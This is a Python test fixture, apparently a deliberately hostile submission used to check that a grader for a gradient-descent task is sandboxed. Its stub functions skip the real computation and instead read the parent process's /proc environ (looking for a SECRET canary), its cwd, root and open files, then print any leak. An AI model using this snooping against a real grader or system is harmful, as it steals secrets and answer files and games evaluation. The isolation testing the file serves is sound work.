"""Hostile: snoops on the grader through ``/proc/$PPID``: its open files (``fd/*``), its
environment (``environ``, where the canary secret is), its cwd and its root, and prints them.

Old grader: all readable by the worker; the secret and the grader's cwd show in the report.
A sandbox's own init process (the parent inside a PID namespace) may be visible: its entry counts as
a leak only if it shows the secret, the grader's cwd (the test's keep.txt) or a case/package file.
Sandboxed grader: the grader's /proc entry is not visible; the stub fails every case.
"""

import contextlib
import os

import numpy as np


def _peek(pid):
    """What the parent's /proc entry shows, and the part of it that belongs outside a sandbox."""
    seen, evidence = [], []
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            secrets = [
                v.decode(errors="replace") for v in handle.read().split(b"\0") if b"SECRET" in v
            ]
        evidence += secrets
    except OSError:
        pass
    for link in ("cwd", "root"):
        with contextlib.suppress(OSError):
            listing = os.listdir(f"/proc/{pid}/{link}")
            seen.append(f"{link}={os.readlink(f'/proc/{pid}/{link}')}: {listing[:5]}")
            if "keep.txt" in listing:
                evidence.append(f"the grader's {link} (it holds the test's keep.txt)")
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            seen.append(f"fd {fd} -> {target}")
            if target.startswith("/") and os.path.isfile(target):
                with open(f"/proc/{pid}/fd/{fd}", "rb") as handle:
                    size = len(handle.read(1 << 20))
                if "descentlab" in target or target.endswith(".json"):
                    evidence.append(f"read {size} bytes of {target}")
        except OSError:
            continue
    return seen, evidence


def _answer(weight):
    seen, evidence = _peek(os.getppid())
    if evidence:
        print("HOSTILE-LEAK: the grader's /proc entry: " + "; ".join(evidence)[:1500])
    elif seen:
        print("the parent's /proc entry (nothing from outside): " + "; ".join(seen)[:500])
    return np.array(weight, dtype=float, copy=True), 0.0


def gradient_step_onefeature(x, y, weight, lrate):
    return _answer(weight)


def gradient_step(X, y, weight, lrate):
    return _answer(weight)
